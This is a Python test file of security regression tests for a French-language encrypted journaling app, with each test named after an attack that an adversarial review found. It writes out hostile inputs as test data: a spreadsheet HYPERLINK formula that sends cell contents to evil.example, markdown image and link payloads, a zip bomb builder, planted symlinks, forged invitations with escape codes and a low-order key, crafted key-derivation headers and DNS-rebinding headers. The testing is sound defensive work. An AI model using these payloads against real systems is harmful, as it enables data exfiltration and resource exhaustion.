"""Attacks found by the adversarial review (issue 11), each named after what it tries; every
test here failed on the code before its fix."""

from __future__ import annotations

import csv
import io
import os
import re
import socket
import subprocess
import sys

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from journal_app.sharing import Insight
from journal_app.theme_report import Report, to_csv, to_markdown
from journal_app.themes.model import Theme, ThemeView
from tests.conftest import FAST_KDF, PASSPHRASE

FORMULA = '=HYPERLINK("https://evil.example/?q="&A2&B2,"Voir")'
HOSTILE_MARKDOWN = ['<img src="https://evil.example/p.png">', "![](https://evil.example/p.png)",
                    "[cliquez ici](https://evil.example)", "# Un titre qui n'en est pas un"]


def report_quoting(*texts: str, label: str = "Le temps") -> Report:
    insights = [Insight(f"i{n}", "2026-W48", "free", "", "fr", text, "0" * 64) for n, text in enumerate(texts)]
    view = ThemeView(Theme("t1", label, [i.id for i in insights]), insights, [("2026-W48", len(insights))],
                     insights)
    return Report("Cercle du jeudi", 3, [view], 0, len(insights))


def test_csv_injection_a_quote_never_becomes_a_spreadsheet_formula():
    text = to_csv(report_quoting(FORMULA, "+1 pour moi", "-moins", "@toi", "\tcaché", label="=1+1"), "fr")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert "'" + FORMULA in cells and "'=1+1" in cells  # the words are kept, shown as text


def test_markdown_injection_a_quote_never_becomes_html_a_link_or_an_image():
    text = to_markdown(report_quoting(*HOSTILE_MARKDOWN, label="<b>Thème</b>"), "fr")
    unescaped = re.compile(r"(?<!\\)(<|!\[|\]\()")  # a tag, an image, a link's "](" target
    assert not unescaped.search(text), unescaped.search(text)
    assert "\n> # " not in text and "\n> \\# Un titre" in text
    assert "&lt;img src=" in text and "&lt;b\\>Thème" in text  # neutralised, still readable as written
    # What a CommonMark viewer (raw HTML allowed) makes of it: no tag, no image, no link; the
    # words as the member wrote them.
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").render(text)
    assert not re.search(r"<(img|b|a)\b", html), html
    assert "&lt;img src=&quot;https://evil.example/p.png&quot;&gt;" in html


def test_web_on_the_whole_network_needs_to_be_asked_for(tmp_path):
    from tests.test_cli_inprocess import run

    refused = run(tmp_path, "web", "--host", "0.0.0.0", "--port", "8999")
    assert "--allow-network" in refused.one_line() and not (tmp_path / "journal.vault").exists()
    with socket.socket() as busy:  # asked for: it goes on (here to a busy port, so it stops there)
        busy.bind(("0.0.0.0", 0))
        busy.listen()
        port = busy.getsockname()[1]
        allowed = run(tmp_path, "web", "--host", "0.0.0.0", "--port", str(port), "--allow-network")
    assert str(port) in allowed.one_line()


@pytest.mark.slow
def test_web_on_the_whole_network_says_so_in_plain_words(tmp_path):
    from tests.test_e2e_browser import free_port

    port = free_port()
    env = {**os.environ, "JOURNAL_APP_DATA_DIR": str(tmp_path), "LANG": "fr_CA.UTF-8"}
    env.pop("DISPLAY", None)
    proc = subprocess.Popen([sys.executable, "-m", "journal_app", "web", "--host", "0.0.0.0", "--port",
                             str(port), "--allow-network"], env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    try:
        warning = proc.stderr.readline() if proc.stderr else ""
    finally:
        proc.terminate()
        proc.wait(timeout=20)
    assert warning.startswith("Attention") and "pas de TLS" in warning and f":{port}" in warning


@pytest.mark.parametrize("planted", ["file", "symlink"])
def test_export_temp_file_a_planted_file_or_link_never_receives_the_plaintext(tmp_path, planted, monkeypatch):
    """Before: the export was written to `<target>.tmp`, opened without O_EXCL, following links:
    a file planted there (mode 0666) or a link to elsewhere received the plaintext."""
    from journal_app.interchange import write_export
    from journal_app.vault import files as vault

    target = tmp_path / "export.json"
    trap = tmp_path / "ailleurs.txt"
    trap.write_text("", "utf-8")
    names = iter([tmp_path / ".export.json.planted.tmp", tmp_path / ".export.json.fresh.tmp"])
    monkeypatch.setattr(vault, "fresh_name", lambda path: next(names))  # the attacker guessed the name
    planted_path = tmp_path / ".export.json.planted.tmp"
    if planted == "file":
        planted_path.write_text("", "utf-8")
        planted_path.chmod(0o666)
    else:
        planted_path.symlink_to(trap)
    from journal_app.errors import ExportFailed

    with pytest.raises(ExportFailed):
        write_export(target, '{"entries": ["un secret"]}')
    assert trap.read_text("utf-8") == ""
    assert not planted_path.is_symlink() or planted_path.resolve() == trap
    if planted == "file":
        assert planted_path.read_text("utf-8") == ""
    assert not target.exists()
    write_export(target, '{"entries": ["un secret"]}')  # a fresh name: written, 0600
    assert target.read_text("utf-8") == '{"entries": ["un secret"]}' and target.stat().st_mode & 0o077 == 0


def test_crash_leftovers_beside_the_vault_are_cleared_when_it_opens(db, vault_file):
    from journal_app.vault.storage import open_database
    from tests.conftest import PASSPHRASE

    db.close()
    leftover = vault_file.with_name(f".{vault_file.name}.0123456789abcdef.tmp")
    leftover.write_bytes(b"half a save")
    open_database(vault_file, PASSPHRASE).close()
    assert not leftover.exists()


def test_a_passphrase_change_in_settings_shows_the_new_recovery_key_once(tmp_path):
    import flet as ft

    from journal_app.errors import WrongRecoveryKey
    from journal_app.session import JournalSession
    from tests.conftest import FAST_KDF, PASSPHRASE
    from tests.flet_harness import run_ui
    from tests.test_views import app, unlock
    from tests.test_views_phone import open_settings

    session = JournalSession(tmp_path, kdf=FAST_KDF)
    old_key = session.create(PASSPHRASE)
    session.journal.add("Un secret d’avant")
    session.lock()
    (tmp_path / "journal.vault.damaged-1").write_bytes(b"set aside by an earlier restore")
    shown: dict[str, str] = {}

    async def body():
        h, shell = await app(tmp_path)
        await unlock(h)
        await open_settings(h)
        await h.type(h.find(ft.TextField, "Phrase de passe actuelle"), PASSPHRASE)
        await h.type(h.find(ft.TextField, "Nouvelle phrase de passe"), "galets tranquilles sous la neige")
        await h.type(h.find(ft.TextField, "Encore une fois, pour confirmer"), "galets tranquilles sous la neige")
        await h.click(ft.FilledButton, "Changer la phrase de passe")
        await h.wait_for(lambda: h.has_text("nouvelle clé de récupération"))
        shown["key"] = next(t for t in h.texts() if t.count("-") == 7 and len(t) == 39)
        assert shown["key"] != old_key
        assert h.has_text("journal.vault.damaged-1") and h.has_text("ancienne phrase de passe")
        await h.click(ft.OutlinedButton, "Copier")
        copied = [a for name, a in h.conn.invoked_args if name == "set"][-1]
        assert shown["key"] in copied.values()
        shell.lock()

    run_ui(body)
    with pytest.raises(WrongRecoveryKey):
        session.recover(old_key, "encore une autre phrase")
    session.recover(shown["key"], "encore une autre phrase")
    assert [e.body for e in session.journal.entries()] == ["Un secret d’avant"]
    session.lock()


# --- hostile envelopes: anyone holding the invitation code can seal one ------------------------
def seal_document(doc: object, invitation) -> dict:
    """Seal any JSON value as an envelope, the way `sharing.seal` seals an insight."""
    import json as _json

    return seal_bytes(_json.dumps(doc).encode("utf-8"), invitation)


def seal_bytes(plain: bytes, invitation) -> dict:
    """Seal any bytes at all as an envelope: what anyone holding the invitation can post."""
    import secrets

    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    from journal_app import sharing

    ephemeral = X25519PrivateKey.generate()
    epk = ephemeral.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    shared = ephemeral.exchange(X25519PublicKey.from_public_bytes(invitation.public_key))
    nonce = secrets.token_bytes(12)
    sealed = AESGCM(sharing._key(shared, epk, invitation.public_key)).encrypt(
        nonce, sharing._pad(plain), sharing._AAD + invitation.circle_id.encode())
    return {"v": sharing.ENVELOPE_VERSION, "circle": invitation.circle_id, "epk": sharing.b64(epk),
            "nonce": sharing.b64(nonce), "ct": sharing.b64(sealed)}


def genuine_doc(text: str = "Une idée bien à moi") -> dict:
    from dataclasses import asdict
    from datetime import date

    from journal_app.sharing import new_insight

    insight, _ = new_insight(text, day=date(2026, 11, 24), kind="reflection", prompt_id="orid.reflective",
                             lang="fr")
    return {"type": "insight", **asdict(insight)}


def deeply_nested(depth: int = 100_000) -> str:
    return "[" * depth + "]" * depth


def facilitator_with_circle(tmp_path):
    from journal_app.circles import Circles
    from journal_app.session import JournalSession
    from tests.conftest import FAST_KDF, PASSPHRASE

    session = JournalSession(tmp_path, kdf=FAST_KDF)
    session.create(PASSPHRASE)
    keys = Circles(session.database).create("Cercle du jeudi")
    return session, keys


HOSTILE = {
    "a string": "juste une chaîne",
    "a number": 42,
    "a list": [1, 2, 3],
    "a list as id": {**genuine_doc(), "id": ["pas", "un", "id"]},
    "a dict as text": {**genuine_doc(), "text": {"pas": "un texte"}},
    "3,000,000 characters": {**genuine_doc(), "text": "x" * 3_000_000},
    "an unknown field": {**genuine_doc(), "author": "Sophie"},
    "a missing field": {k: v for k, v in genuine_doc().items() if k != "proof"},
    "an unknown type": {**genuine_doc(), "type": "sermon"},
    "a withdrawal of nothing": {"type": "withdrawal", "insight_id": 7, "secret": None},
}


def test_hostile_envelopes_are_counted_damaged_and_the_rest_imported(tmp_path):
    from journal_app.harvest import Harvest
    from journal_app.sharing import make_bundle
    from journal_app.usecases.reports import themes_report
    from journal_app.vault.storage import open_database
    from tests.conftest import PASSPHRASE

    session, keys = facilitator_with_circle(tmp_path)
    envelopes = [seal_document(genuine_doc(f"Idée sincère numéro {n}"), keys.invitation) for n in range(5)]
    envelopes += [seal_document(doc, keys.invitation) for doc in HOSTILE.values()]
    envelopes.append(seal_document(None, keys.invitation))  # JSON's null

    report = Harvest(session.database).import_bundle(make_bundle(keys.invitation.circle_id, envelopes))
    assert (report.added, report.damaged, report.waiting) == (5, len(HOSTILE) + 1, 5)
    another = [seal_document(genuine_doc("Une autre personne"), keys.invitation)]
    Harvest(session.database).import_bundle(make_bundle(keys.invitation.circle_id, another))
    assert len(Harvest(session.database).released(keys.invitation.circle_id)) == 6
    session.lock()
    db = open_database(tmp_path / "journal.vault", PASSPHRASE)  # the vault still opens
    try:
        assert "Cercle du jeudi" in themes_report(db, keys.invitation.circle_id, "fr", k=3).text
    finally:
        db.close()


def test_deep_nesting_inside_an_envelope_is_damaged_not_a_crash(tmp_path):
    import secrets

    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    from journal_app import sharing
    from journal_app.harvest import Harvest

    session, keys = facilitator_with_circle(tmp_path)
    inv = keys.invitation
    ephemeral = X25519PrivateKey.generate()
    epk = ephemeral.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    shared = ephemeral.exchange(X25519PublicKey.from_public_bytes(inv.public_key))
    nonce = secrets.token_bytes(12)
    sealed = AESGCM(sharing._key(shared, epk, inv.public_key)).encrypt(
        nonce, sharing._pad(deeply_nested().encode()), sharing._AAD + inv.circle_id.encode())
    envelope = {"v": sharing.ENVELOPE_VERSION, "circle": inv.circle_id, "epk": sharing.b64(epk),
                "nonce": sharing.b64(nonce), "ct": sharing.b64(sealed)}
    good = seal_document(genuine_doc(), inv)
    report = Harvest(session.database).import_bundle(sharing.make_bundle(inv.circle_id, [envelope, good]))
    assert (report.added, report.damaged) == (1, 1)
    session.lock()


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=50),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=12)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(field=st.sampled_from(["id", "week", "kind", "prompt_id", "lang", "text", "proof", "type", None]),
       value=JSON_VALUES)
def test_any_json_value_at_any_field_is_damaged_or_genuine_and_never_a_crash(tmp_path_factory, field, value):
    from journal_app.harvest import Harvest
    from journal_app.sharing import make_bundle

    session, keys = facilitator_with_circle(tmp_path_factory.mktemp("f"))
    doc = value if field is None else {**genuine_doc(), field: value}
    envelopes = [seal_document(doc, keys.invitation), seal_document(genuine_doc("La vraie"), keys.invitation)]
    report = Harvest(session.database).import_bundle(make_bundle(keys.invitation.circle_id, envelopes))
    assert report.added + report.damaged == 2 and report.added >= 1
    session.lock()
    session.unlock("une phrase de passe")
    session.lock()


# --- archives and folders -----------------------------------------------------------------------
ZIP_BOMB_CHILD = r"""
import resource, sys
from pathlib import Path
from journal_app.errors import RessentiError
from journal_app.interchange import read_data
data = Path(sys.argv[1]).read_bytes()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    read_data("Journal.zip", data)
    print("imported")
except RessentiError as exc:
    print("refused:", type(exc).__name__)
print("growth_kib:", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


@pytest.mark.slow
def test_zip_bomb_is_refused_before_memory_grows(tmp_path):
    """Before: a 16 KiB Day One zip peaked at 1.3 GB of memory, a 64 KiB one at 5.2 GB."""
    import zipfile

    bomb = tmp_path / "Journal.zip"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("Journal.json", "w", force_zip64=True) as member:
            member.write(b'{"entries": [{"text": "')
            block = b" " * (1 << 20)
            for _ in range(200):  # 200 MiB of spaces: under the 256 MiB import limit, ~200 KB zipped
                member.write(block)
            member.write(b'"}]}')
    assert bomb.stat().st_size < 2 * 1024 * 1024
    run = subprocess.run([sys.executable, "-c", ZIP_BOMB_CHILD, str(bomb)], capture_output=True, text=True,
                         timeout=300)
    assert run.returncode == 0, run.stderr
    lines = run.stdout.splitlines()
    assert lines[0] == "refused: InputTooLarge"
    growth_mib = int(lines[1].split()[1]) / 1024
    assert growth_mib < 100, f"peak memory grew by {growth_mib:.0f} MiB"


def test_a_zip_with_thousands_of_members_is_refused(tmp_path):
    import zipfile

    from journal_app.errors import InputTooLarge
    from journal_app.interchange import read_data

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for n in range(1200):
            archive.writestr(f"{n}.json", "{}")
    with pytest.raises(InputTooLarge):
        read_data("Journal.zip", buffer.getvalue())


def test_folder_import_follows_no_symbolic_link(tmp_path):
    """Before: a Markdown folder import followed links (it imported /proc/self/environ)."""
    from journal_app.interchange.markdown import read_folder

    folder = tmp_path / "notes"
    (folder / "sous-dossier").mkdir(parents=True)
    (folder / "2024-05-01-cercle.md").write_text("# Au cercle\n\nUn galet.", "utf-8")
    (folder / "sous-dossier" / "2024-05-02-marche.md").write_text("# Marche\n\nLe vent.", "utf-8")
    secret = tmp_path / "ailleurs"
    secret.mkdir()
    (secret / "secret.md").write_text("JOURNAL_APP_PASSPHRASE=une phrase de passe", "utf-8")
    (folder / "lien.md").symlink_to(secret / "secret.md")
    (folder / "dossier-lien").symlink_to(secret, target_is_directory=True)
    reading = read_folder(folder)
    texts = [c.body for c in reading.candidates]
    assert sorted(texts) == ["Le vent.", "Un galet."]
    assert not any("phrase de passe" in t for t in texts)


# --- lower findings -------------------------------------------------------------------------------
def test_a_passphrase_typed_with_decomposed_accents_opens_the_same_journal(vault_file, monkeypatch):
    import unicodedata

    from journal_app.vault import keys as vault_module
    from journal_app.vault.storage import create_database, open_database
    from tests.conftest import FAST_KDF

    composed = "Éloïse écoute à l’aube"
    decomposed = unicodedata.normalize("NFD", composed)
    assert composed != decomposed
    db, _ = create_database(vault_file, composed, kdf=FAST_KDF)  # a phone types é as one character
    db.close()
    open_database(vault_file, decomposed).close()  # a laptop as e + accent: the same passphrase
    # A journal made before normalization, from a decomposing keyboard, still opens as typed.
    old = vault_file.with_name("ancien.vault")
    monkeypatch.setattr(vault_module.unicodedata, "normalize", lambda form, text: text)
    create_database(old, decomposed, kdf=FAST_KDF)[0].close()
    monkeypatch.undo()
    open_database(old, decomposed).close()


@pytest.mark.parametrize("memory_kib, iterations, lanes", [(2 * 1024 * 1024, 3, 4), (64 * 1024, 64, 4),
                                                           (64 * 1024, 3, 64), (1024 * 1024, 3, 4),
                                                           (256 * 1024, 16, 4), (256 * 1024, 3, 16)])
def test_argon2_costs_from_a_crafted_file_are_refused_before_deriving(db, vault_file, memory_kib, iterations,
                                                                     lanes):
    """Before: up to 4 GiB x 64 passes x 64 lanes were accepted from a file; then up to 1 GiB x 16
    passes x 16 lanes (about 77 s and 1 GiB an attempt here); now 256 MiB x 8 x 8."""
    import hashlib
    import struct
    import time

    from journal_app.errors import VaultDamaged
    from journal_app.vault import _DIGEST_LEN, HEADER_LEN
    from journal_app.vault.storage import open_database
    from tests.conftest import PASSPHRASE

    db.close()
    data = bytearray(vault_file.read_bytes())
    data[10:22] = struct.pack(">III", memory_kib, iterations, lanes)
    fields = bytes(data[:HEADER_LEN - _DIGEST_LEN])
    data[HEADER_LEN - _DIGEST_LEN:HEADER_LEN] = hashlib.sha256(fields).digest()  # a consistent header
    vault_file.write_bytes(bytes(data))
    start = time.monotonic()
    with pytest.raises(VaultDamaged):
        open_database(vault_file, PASSPHRASE)
    assert time.monotonic() - start < 5


def test_invitations_with_a_bad_id_control_characters_or_a_low_order_key_are_refused():
    """Before: circle ids were not checked, terminal escape codes in a name were printed raw by
    the CLI, and an all-zero X25519 key was accepted at join."""
    from journal_app.sharing import CircleKeys, Invitation, InvitationInvalid, parse_invitation

    real = CircleKeys.create("Cercle du jeudi").invitation
    for forged in (Invitation("-not-hex", real.name, real.public_key),
                   Invitation(real.circle_id, real.name, bytes(32)),  # all zeros: a low-order point
                   Invitation(real.circle_id, "\x1b\x07\n", real.public_key)):  # nothing printable
        with pytest.raises(InvitationInvalid):
            parse_invitation(forged.code())
    named = parse_invitation(Invitation(real.circle_id, "Cercle\x1b[31m du\x07 jeudi", real.public_key).code())
    assert named.name == "Cercle[31m du jeudi" and "\x1b" not in named.name


def test_a_lossless_import_with_an_integer_id_or_a_dict_as_text_is_skipped_not_stored(journal, tmp_path):
    """Before: a Ressenti export with an integer id was stored, and `list` failed from then on."""
    import json

    from journal_app.interchange import import_data

    good = {"id": "0f6c1d2e-3a4b-4c5d-8e9f-001122334455", "created": "2026-11-20T19:00:00-05:00",
            "updated": "2026-11-20T19:00:00-05:00", "kind": "free", "title": "Vraie", "body": "Un galet."}
    hostile = [{**good, "id": 12345}, {**good, "id": "x" * 500}, {**good, "id": "a/../b"},
               {**good, "id": "0f6c1d2e-3a4b-4c5d-8e9f-00112233445a", "body": {"pas": "un texte"}},
               {**good, "id": "0f6c1d2e-3a4b-4c5d-8e9f-00112233445b", "tags": [1, 2]}]
    data = json.dumps({"format": "ressenti-export", "version": 1, "entries": [good, *hostile]}).encode()
    report = import_data(journal, "export.json", data)
    assert report.added == 1 and len(report.skipped) == len(hostile)
    assert [e.title for e in journal.entries()] == ["Vraie"]


OLD_EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
OLD_BARE_DOMAIN = re.compile(r"\b[\w-]+(?:\.[\w-]+)*\.(?:com|ca|org|net|info|io|fr|quebec|qc\.ca|gouv\.qc\.ca)\b"
                             r"(?:/[^\s<>\"]*)?", re.IGNORECASE)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["a", "é", "b1", "-", "_", ".", "@", " ", "/", ".com", ".ca", ".qc", "www",
                                 "jean", "x+y", "\n", "?q=1"]), max_size=30).map("".join))
def test_the_linear_finders_find_what_the_old_patterns_found(text):
    """The e-mail and bare-domain patterns took 17 to 20 s on 40,000 characters (quadratic); their
    linear replacements must find the same stretches on texts of ordinary length
    (bench/bench_anonymize.py times 100,000 characters)."""
    from journal_app.anonymize import _bare_domains, _emails

    assert list(_emails(text)) == [m.span() for m in OLD_EMAIL.finditer(text)]
    assert list(_bare_domains(text)) == [m.span() for m in OLD_BARE_DOMAIN.finditer(text)]


def test_two_exports_of_an_outbox_cannot_be_linked_by_their_envelopes(db, tmp_path):
    """Before: re-exporting the outbox re-sent identical envelopes, which linked a member's files."""
    import json
    from datetime import date

    from journal_app.circles import Circles
    from journal_app.harvest import Harvest
    from journal_app.session import JournalSession
    from tests.conftest import FAST_KDF, PASSPHRASE

    facilitator = JournalSession(tmp_path / "f", kdf=FAST_KDF)
    facilitator.create(PASSPHRASE)
    keys = Circles(facilitator.database).create("Cercle du jeudi")
    member = Circles(db)
    member.join(keys.invitation.code())
    for text in ("Première idée", "Deuxième idée"):
        member.share(keys.invitation.circle_id, text, day=date(2026, 11, 24), kind="free")
    member.mark_exported(keys.invitation.circle_id, date(2026, 11, 25))
    member.withdraw(member.outbox()[0].shared.insight.id)
    first, second = (member.outbox_bundle(keys.invitation.circle_id) for _ in range(2))
    envelopes = [json.loads(b)["envelopes"] for b in (first, second)]
    assert len(envelopes[0]) == len(envelopes[1]) == 2  # one insight, one withdrawal
    pieces = [{e[k] for e in batch for k in ("epk", "nonce", "ct")} for batch in envelopes]
    assert not pieces[0] & pieces[1]
    harvest = Harvest(facilitator.database)
    one = harvest.import_bundle(first)
    two = harvest.import_bundle(second)
    assert (one.added, one.withdrawn) == (1, 0) and two.added == 0 and two.duplicates >= 1
    facilitator.lock()


@pytest.mark.parametrize("size", [0, 8, 100, 233])
def test_a_vault_cut_short_offers_the_backup_in_the_app_and_the_cli(tmp_path, size):
    """Before: a vault of 0 to 233 bytes was "not a vault", and nothing led to the backup."""
    import flet as ft

    from journal_app.errors import NotAVault
    from journal_app.session import JournalSession
    from journal_app.vault.storage import open_database
    from tests.conftest import FAST_KDF, PASSPHRASE
    from tests.flet_harness import run_ui
    from tests.test_cli_inprocess import run
    from tests.test_views import app

    session = JournalSession(tmp_path, kdf=FAST_KDF)
    session.create(PASSPHRASE)
    session.journal.add("Gardé dans la copie précédente")
    session.journal.add("Le dernier mot")
    session.lock()
    vault = tmp_path / "journal.vault"
    vault.write_bytes(vault.read_bytes()[:size])
    with pytest.raises(NotAVault):
        open_database(vault, PASSPHRASE)

    async def body():
        h, shell = await app(tmp_path)
        await h.type(h.find(ft.TextField, "Phrase de passe"), PASSPHRASE)
        await h.click(ft.FilledButton, "Déverrouiller")
        await h.wait_for(lambda: h.has_text("tronqué"))
        assert h.find(ft.OutlinedButton, "Restaurer").visible

    run_ui(body)
    said = run(tmp_path, "restore")
    assert said.returncode == 0 and "journal.vault.damaged-1" in said.stdout
    db = open_database(vault, PASSPHRASE)
    try:
        assert len(db.table("entries")) >= 1
    finally:
        db.close()
    assert (tmp_path / "journal.vault.damaged-1").stat().st_size == size  # kept aside, not deleted


def test_forged_withdrawals_for_random_ids_are_not_hoarded(tmp_path):
    """Before: 20,000 withdrawals for random ids were all stored (3.4 MB in the vault)."""
    import secrets
    import uuid

    from journal_app.harvest import MAX_PENDING_WITHDRAWALS, Harvest
    from journal_app.sharing import Withdrawal, make_bundle, seal

    session, keys = facilitator_with_circle(tmp_path)
    sent = MAX_PENDING_WITHDRAWALS + 300
    forged = [seal(Withdrawal(str(uuid.uuid4()), secrets.token_hex(32)), keys.invitation) for _ in range(sent)]
    good = seal_document(genuine_doc(), keys.invitation)
    report = Harvest(session.database).import_bundle(make_bundle(keys.invitation.circle_id, [*forged, good]))
    # Bounded: past the room, the oldest go (round 4: a flood never shuts the room for later ones).
    assert report.added == 1 and report.damaged == sent - MAX_PENDING_WITHDRAWALS
    held = session.database.table("received")
    assert sum(1 for d in held if "pending_withdrawal" in d) == MAX_PENDING_WITHDRAWALS
    session.lock()


def test_a_forged_invitation_pasted_first_is_not_silently_kept(db):
    """Before: a fake invitation with the real circle's id, pasted first, kept its key, and
    joining with the real code then said « joined » while insights went on being sealed to it."""
    from journal_app.circles import Circles, InvitationConflict
    from journal_app.sharing import CircleKeys, Invitation

    real = CircleKeys.create("Cercle du jeudi").invitation
    forger = CircleKeys.create("Cercle du jeudi").invitation
    fake = Invitation(real.circle_id, real.name, forger.public_key)
    circles = Circles(db)
    circles.join(fake.code())
    with pytest.raises(InvitationConflict) as told:
        circles.join(real.code())
    assert "Cercle du jeudi" in told.value.message("fr")
    circles.join(fake.code())  # the same code again is no conflict


def test_deleting_the_lock_file_does_not_let_a_second_writer_overwrite_the_first(vault_file):
    from journal_app.errors import LockLost
    from journal_app.vault import Vault, lock_path

    first, _ = Vault.create(vault_file, PASSPHRASE, [(b"k", b"one")], kdf=FAST_KDF)
    lock_path(vault_file).unlink()
    second, _ = Vault.open(vault_file, PASSPHRASE)  # the name was free: it gets in
    assert second.items() == {b"k": b"one"}
    second.save([(b"k", b"written by the second window")])
    with pytest.raises(LockLost):
        first.save([(b"k", b"written by the first window")])
    second.close()
    with pytest.raises(LockLost):  # the second closed, yet the file changed under the first
        first.save([(b"k", b"written by the first window")])
    assert first.read() == {b"k": b"written by the second window"}  # what the first now shows
    first.save([(b"k", b"both, in turn")])  # read back under the lock again: writing is safe
    first.close()
    reopened, _ = Vault.open(vault_file, PASSPHRASE)
    assert reopened.items() == {b"k": b"both, in turn"}
    reopened.close()


def test_a_window_whose_lock_was_taken_keeps_the_words_it_could_not_save(tmp_path):
    from journal_app.errors import LockLost
    from journal_app.journal import Journal
    from journal_app.vault import lock_path
    from journal_app.vault.storage import create_database, open_database

    path = tmp_path / "journal.vault"
    first, _ = create_database(path, PASSPHRASE, kdf=FAST_KDF)
    Journal(first).add("avant")
    lock_path(path).unlink()
    second = open_database(path, PASSPHRASE)
    Journal(second).add("écrit dans la deuxième fenêtre")
    with pytest.raises(LockLost):
        Journal(first).add("écrit dans la première")
    # The first window's memory went back to the file: it shows the second's entry, not a ghost.
    assert sorted(e.body for e in Journal(first).entries()) == ["avant", "écrit dans la deuxième fenêtre"]
    second.close()
    first.close()


def test_a_lock_file_removed_while_nobody_else_came_is_taken_again(vault_file):
    from journal_app.errors import VaultLocked
    from journal_app.vault import Vault, lock_path

    first, _ = Vault.create(vault_file, PASSPHRASE, [(b"k", b"one")], kdf=FAST_KDF)
    lock_path(vault_file).unlink()
    first.save([(b"k", b"two")])  # nobody came in: the save goes through and the lock is taken again
    assert lock_path(vault_file).exists()
    with pytest.raises(VaultLocked):
        Vault.open(vault_file, PASSPHRASE)
    first.close()
    again, _ = Vault.open(vault_file, PASSPHRASE)
    assert again.items() == {b"k": b"two"}
    again.close()


def test_a_large_vault_opens_without_holding_its_bytes_three_times(tmp_path):
    """A 300 MB vault took 929 MB to open: the ciphertext was sliced, the content copied out of
    its frame, and every line copied again to be kept. Format 1 then held the decrypted document
    beside the parsed one (3.3×); format 2 reads one record at a time and parses each document
    as it comes, keeping only the parsed journal (2.3×)."""
    from bench.bench_big_vault import make_vault, open_in_child

    path = make_vault(tmp_path, 40)
    size = path.stat().st_size / 2**20
    peak, kept, entries = open_in_child(path)
    assert entries > 10_000
    # The parsed entries themselves take about 2.2× the file (French text is stored two bytes a
    # character); the opening once peaked at 5.3× and kept 4.3×, then 3.3× with format 1.
    assert peak < 2.6 * size and kept < 2.6 * size, (peak, kept, size)


posix_only = pytest.mark.skipif(os.name != "posix", reason="POSIX file permissions")


@posix_only
def test_a_passphrase_file_others_can_read_is_used_with_a_warning(tmp_path):
    """E15: a 0644 passphrase file was used without a word."""
    from tests.test_cli_inprocess import PASS, run

    data = tmp_path / "d"
    assert run(data, "init").returncode == 0
    secret = tmp_path / "phrase.txt"
    secret.write_text(PASS + "\n", "utf-8")
    secret.chmod(0o644)
    listed = run(data, "list", "--passphrase-file", str(secret), passphrase=None)
    assert listed.returncode == 0 and "Traceback" not in listed.stderr
    assert ("d’autres personnes sur cet ordinateur peuvent lire «\u00a0" + str(secret)) in listed.stderr
    assert f"chmod 600 {secret}" in listed.stderr
    english = run(data, "list", "--passphrase-file", str(secret), passphrase=None, lang="en_CA.UTF-8")
    assert "other people on this computer can read" in english.stderr
    secret.chmod(0o600)
    quiet = run(data, "list", "--passphrase-file", str(secret), passphrase=None)
    assert quiet.returncode == 0 and "peuvent lire" not in quiet.stderr


@posix_only
def test_a_data_folder_open_to_others_is_closed_to_them(tmp_path):
    """E04: a data folder that already existed as 0755 was kept so, and the settings-only folder
    followed the umask."""
    from journal_app.session import JournalSession
    from journal_app.settings import Settings, save_settings
    from tests.test_cli_inprocess import run

    def mode(path):
        return path.stat().st_mode & 0o777

    cli = tmp_path / "cli"
    cli.mkdir(mode=0o755)
    cli.chmod(0o755)
    assert run(cli, "init").returncode == 0
    assert mode(cli) == 0o700
    cli.chmod(0o755)  # opened up later (a copy, a backup tool): opening the journal closes it again
    assert run(cli, "list").returncode == 0
    assert mode(cli) == 0o700

    app = tmp_path / "app"
    app.mkdir()
    app.chmod(0o775)
    session = JournalSession(app, kdf=FAST_KDF)
    session.create(PASSPHRASE)
    session.lock()
    assert mode(app) == 0o700

    before = os.umask(0)
    try:
        save_settings(tmp_path / "settings-only", Settings())
    finally:
        os.umask(before)
    assert mode(tmp_path / "settings-only") == 0o700


def test_dns_rebinding_on_every_interface_is_refused_unless_the_name_is_allowed():
    """F25: with `--host 0.0.0.0 --allow-network`, any Host passed the same-origin guard, and a
    DNS-rebinding page always meets Origin == Host. Now only addresses and the allowed names do."""
    import asyncio

    from journal_app.same_origin import SameOriginOnly, served_hosts

    reached: list[str] = []

    async def app(scope, receive, send):
        reached.append(dict(scope["headers"])[b"host"].decode())

    def status(guard: SameOriginOnly, host: str, origin: str | None = None) -> str:
        headers = [(b"host", host.encode())] + ([(b"origin", origin.encode())] if origin else [])
        sent: list[dict] = []

        async def send(message):
            sent.append(message)

        before = len(reached)
        asyncio.run(guard({"type": "websocket", "headers": headers}, None, send))
        if len(reached) > before:
            return "app"
        assert sent == [{"type": "websocket.close", "code": 1008}]
        return "refused"

    everywhere = SameOriginOnly(app, served_hosts("0.0.0.0", 8550))
    # A page on a domain made to resolve to this computer: Origin == Host, as always.
    assert status(everywhere, "rebound.example:8550", "http://rebound.example:8550") == "refused"
    assert status(everywhere, "rebound.example:8550") == "refused"
